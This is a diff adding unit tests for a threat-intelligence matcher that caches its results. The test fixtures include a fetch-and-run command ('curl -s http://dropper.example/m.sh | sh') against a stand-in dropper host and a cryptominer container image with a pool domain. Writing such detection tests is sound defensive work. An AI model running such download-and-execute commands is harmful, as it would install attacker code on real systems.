@@ -225,3 +225,47 @@ describe('indicator files', () => {
     expect(parseStixBundle('b.json', 'not json').errors[0]?.code).toBe('INTEL_FILE_INVALID');
   });
 });
+
+describe('remembered answers', () => {
+  const ev = (cmd: string, image = 'alpine', query = 'fromImage=miner-example%2Fxmrig&tag=latest'): unknown => ({
+    process: { command_line: cmd },
+    container: { image: { name: image } },
+    url: { query },
+  });
+
+  it('answer as a fresh scan does, on repeats and past the memo bound', () => {
+    const set = setOf(
+      ['url', 'http://dropper.example/m.sh'],
+      ['image', 'miner-example/xmrig'],
+      ['domain', 'pool.example'],
+    );
+    const fresh = (e: unknown): unknown =>
+      matchIntel(
+        e,
+        setOf(['url', 'http://dropper.example/m.sh'], ['image', 'miner-example/xmrig'], ['domain', 'pool.example']),
+      );
+    const events = [
+      ev('curl -s http://dropper.example/m.sh | sh'),
+      ev('curl -s http://dropper.example/m.sh | sh'), // the same text again: remembered
+      ev('x a.pool.example b.pool.example http://dropper.example/m.sh', 'miner-example/xmrig:latest'),
+      ev('ls /tmp', 'alpine', 'fromImage=alpine'),
+    ];
+    for (const e of events) expect(matchIntel(e, set)).toEqual(fresh(e));
+    // past the bound (4,096 per kind) the memo starts again: the same answers
+    for (let i = 0; i < 5000; i++)
+      expect(matchIntel(ev(`echo ${i}.example`, `img-${i}`, `fromImage=img-${i}`), set)).toEqual([]);
+    for (const e of events) expect(matchIntel(e, set)).toEqual(fresh(e));
+  });
+
+  it('follow indicators added after a match', () => {
+    const set = setOf(['domain', 'other.example']);
+    const e = ev('wget http://late.example/x', 'late/image');
+    expect(matchIntel(e, set)).toEqual([]);
+    set.add({ type: 'domain', value: 'late.example', source: 'test' });
+    set.add({ type: 'image', value: 'late/image', source: 'test' });
+    expect(matchIntel(e, set).map((h) => [h.field, h.indicator.value])).toEqual([
+      ['process.command_line', 'late.example'],
+      ['container.image.name', 'late/image'],
+    ]);
+  });
+});
